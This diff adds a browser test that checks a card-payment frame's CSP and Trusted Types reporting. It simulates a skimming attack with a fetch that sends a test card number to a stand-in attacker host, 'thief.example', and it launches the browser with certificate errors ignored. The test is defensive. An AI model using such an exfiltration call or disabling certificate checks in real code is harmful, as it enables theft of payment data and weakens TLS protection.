@@ -1,0 +1,52 @@
+// What a browser reports by itself of the frame, with the real headers, to the real ingest. Over TLS: it reports nothing else.
+
+import { readFileSync } from "node:fs";
+import { SecureSite } from "./support/secure.ts";
+import { expect, test } from "./support/test.ts";
+
+const CARD = "4242424242424242";
+
+test.use({
+  ignoreHTTPSErrors: true,
+  launchOptions: async ({ launchOptions }, use) => {
+    // Reports are sent by the browser itself, which no page's setting reaches; and a minute later, if not told otherwise
+    const args = [...(launchOptions.args ?? []), "--ignore-certificate-errors", "--short-reporting-delay"];
+    await use({ ...launchOptions, args });
+  },
+});
+
+test("an attack that is blocked is reported, and what it wanted to carry away is not kept", async ({ page, spare }) => {
+  const site = await SecureSite.start(spare);
+  try {
+    const { fields } = JSON.parse(readFileSync(site.path("site/release.json"), "utf8")) as {
+      fields: Record<"frame" | "loader", { file: string; integrity: string }>;
+    };
+    const { frame, loader } = fields;
+    await page.goto(`${site.fields}/${frame.file}`);
+    await page.evaluate(async (card) => {
+      await new Promise((done) => setTimeout(done)); // out of the debugger's own call
+      await fetch(`https://${card}.thief.example/${card}?${card}`, { mode: "no-cors" }).catch(() => undefined);
+      const script = document.createElement("script");
+      script.textContent = "1";
+      try {
+        document.body.append(script);
+      } catch {
+        // Trusted Types
+      }
+    }, CARD);
+    const seen = async (type: string, rule: string): Promise<unknown> =>
+      (await site.reports()).find((report) => report.type === type && report.rule === rule);
+    const pageAddress = `${site.fields}/${frame.file}`;
+    await expect
+      .poll(() => seen("csp-violation", "connect-src"), { timeout: 20_000 })
+      .toMatchObject({ page: pageAddress, source: "https://*.thief.example", count: 1 });
+    await expect
+      .poll(async () => (await site.reports()).find(({ type }) => type === "csp-hash"), { timeout: 20_000 })
+      .toMatchObject({ page: pageAddress, source: `${site.fields}/${loader.file}`, hash: loader.integrity });
+    const all = await site.reports();
+    console.log(all.map(({ type, rule, source }) => `${type} ${rule} ${source}`).join("\n"));
+    expect(JSON.stringify(all)).not.toContain(CARD);
+  } finally {
+    await site.stop();
+  }
+});
